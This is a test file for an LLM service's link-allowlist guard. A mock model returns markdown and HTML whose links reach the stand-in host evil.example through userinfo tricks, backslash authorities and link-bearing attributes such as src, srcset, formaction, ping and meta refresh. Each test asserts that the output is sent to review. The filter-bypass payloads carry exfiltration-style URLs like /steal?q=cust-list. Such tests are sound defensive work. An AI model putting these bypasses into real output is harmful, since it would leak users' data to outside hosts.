// LLM05-2 / issue 12 B4: links are judged by the host a browser would visit. Through the HTTP stack with the mock
// upstream playing a model that hides an off-list host behind userinfo, a markdown syntax or an HTML attribute.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import request from 'supertest';
import { createTestContext, editedBundledTasks, envelope, type TestContext } from './helpers/context.js';
import { answering, drafting, startMockUpstream, type ChatRequestBody, type MockUpstream, modelFor } from './helpers/mock-upstream.js';

describe('link allowlist bypasses through the HTTP pipeline (LLM05-2, issue 12 B4)', () => {
  let upstream: MockUpstream;
  let ctx: TestContext;
  let key: string;

  before(async () => {
    upstream = await startMockUpstream();
    ctx = await createTestContext({
      model: modelFor(upstream),
      // content.draft as a deployment might run it without html_sanitise: link_allowlist alone must see every attribute.
      tasksDir: editedBundledTasks({
        'content.draft': (spec) => {
          spec['output_rules'] = (spec['output_rules'] as Array<{ check: string }>).filter((rule) => rule.check !== 'html_sanitise' && rule.check !== 'code_injection');
        },
      }),
    });
    key = (await ctx.createKey(['tasks:*'])).key;
  });
  after(async () => {
    await ctx.close();
    await upstream.close();
  });

  const run = (task: string, data: Record<string, unknown>, content: (body: ChatRequestBody) => string) => {
    upstream.setBehaviours([{ kind: 'answer', content }]);
    return request(ctx.app)
      .post(`/v1/tasks/${task}`)
      .set({ authorization: `Bearer ${key}`, 'content-type': 'application/json', 'idempotency-key': randomUUID() })
      .send(JSON.stringify(envelope(data)));
  };
  const answer = (text: string) => run('support.answer', { question: 'How many business days until my refund is paid?' }, answering(() => text));
  const draft = (html: string) => run('content.draft', { topic: 'How refunds work for returned parcels', audience: 'new customers', keywords: ['refund'] }, drafting(() => html));

  const assertSentToReview = async (response: request.Response, label: string): Promise<void> => {
    assert.notEqual(response.status, 200, `${label}: ${response.text}`);
    assert.equal(response.status, 422, `${label}: ${response.text}`);
    assert.equal(response.body.code, 'sent_to_review', label);
    const review = await ctx.store.reviews.get(String(response.body.review_id));
    assert.ok(review?.reasons.some((reason) => reason.startsWith('link_allowlist:')), `${label}: ${JSON.stringify(review?.reasons)}`);
    assert.doesNotMatch(response.text, /evil\.example/, `${label}: the off-list host never reaches the caller`);
  };

  test("LLM05-2 B4: a markdown link whose allowlisted-looking host is userinfo (`'`, `)` or `]` before `@evil.example`), when returned by the model, then not a 200: sent to review", async () => {
    for (const separator of ["'", ')', ']']) {
      const response = await answer(`Reset it here: [reset](https://brightbean.example${separator}@evil.example/steal?q=cust-list)`);
      await assertSentToReview(response, `separator ${separator}`);
    }
  });

  test('LLM05-2 B4: an off-list host in a markdown reference definition, an autolink, a backslash authority or a bare URL after a quote, when returned, then sent to review', async () => {
    const answers = [
      'Reset it [here][r].\n\n[r]: https://evil.example/steal?q=cust-list',
      'Reset it at <https://evil.example/steal?q=cust-list>.',
      'Reset it [here](https:\\\\evil.example/steal).',
      "Reset it at https://brightbean.example'@evil.example/steal?q=cust-list today.",
      'Reset it [here](https://user:pw@brightbean.example/reset).',
    ];
    for (const text of answers) await assertSentToReview(await answer(text), text);
  });

  test("LLM05-2 B4: an HTML <a href> whose host is userinfo (`https://brightbean.example'@evil.example/…`) in content.draft's body_html, when returned, then not a 200: sent to review", async () => {
    for (const separator of ["'", ')', ']']) {
      await assertSentToReview(await draft(`<p>Read <a href="https://brightbean.example${separator}@evil.example/steal?q=cust-list">our guide</a>.</p>`), `separator ${separator}`);
    }
  });

  test('LLM05-2 B4: an off-list URL in any link-bearing HTML attribute (src, srcset, action, formaction, xlink:href, poster, cite, data, background, ping, style url(), meta refresh), when returned, then sent to review; allowlisted, relative and mailto links stay 200', async () => {
    // Spelled the ways a browser still reads as evil.example: `/\\host` is protocol-relative, `https:host` needs no slashes.
    const evils = ['/\\evil.example/steal?q=cust-list', 'https:evil.example/steal?q=cust-list', 'https:\\\\evil.example/steal'];
    const documents = (evil: string): string[] => [
      `<p><img src="${evil}" alt="x"></p>`,
      `<p><img src="https://brightbean.example/a.png" srcset="https://brightbean.example/a.png 1x, ${evil} 2x" alt="x"></p>`,
      `<form action="${evil}"><input type="submit"></form>`,
      `<form><button formaction="${evil}">Go</button></form>`,
      `<svg><a xlink:href="${evil}"><text>Go</text></a></svg>`,
      `<video poster="${evil}"></video>`,
      `<blockquote cite="${evil}">Quoted.</blockquote>`,
      `<object data="${evil}"></object>`,
      `<table background="${evil}"><tr><td>x</td></tr></table>`,
      `<p><a href="https://brightbean.example/help" ping="${evil}">Help</a></p>`,
      `<p style="background-image: url('${evil}')">Refunds.</p>`,
      `<meta http-equiv="refresh" content="0; url=${evil}">`,
      `<p><a href="${evil.replace(':', '&#58;')}">Help</a></p>`,
    ];
    for (const evil of evils) {
      for (const html of documents(evil)) await assertSentToReview(await draft(html), html);
    }

    // No false positive: allowlisted, relative and mailto links stay, in markdown and in HTML.
    const text = 'See [refunds](https://brightbean.example/help/refunds), [returns](/help/returns) or https://brightbean.example/help. Mail [us](mailto:help@brightbean.example).';
    const response = await answer(text);
    assert.equal(response.status, 200, response.text);
    assert.equal(response.body.output.answer, text);

    const html = '<p>See <a href="https://brightbean.example/help/refunds">refunds</a> and <img src="https://brightbean.example/img/box.png" srcset="https://brightbean.example/img/box.png 1x, /img/box@2x.png 2x" alt="box">.</p>';
    const drafted = await draft(html);
    assert.equal(drafted.status, 200, drafted.text);
    assert.equal(drafted.body.output.body_html, html);
  });
});
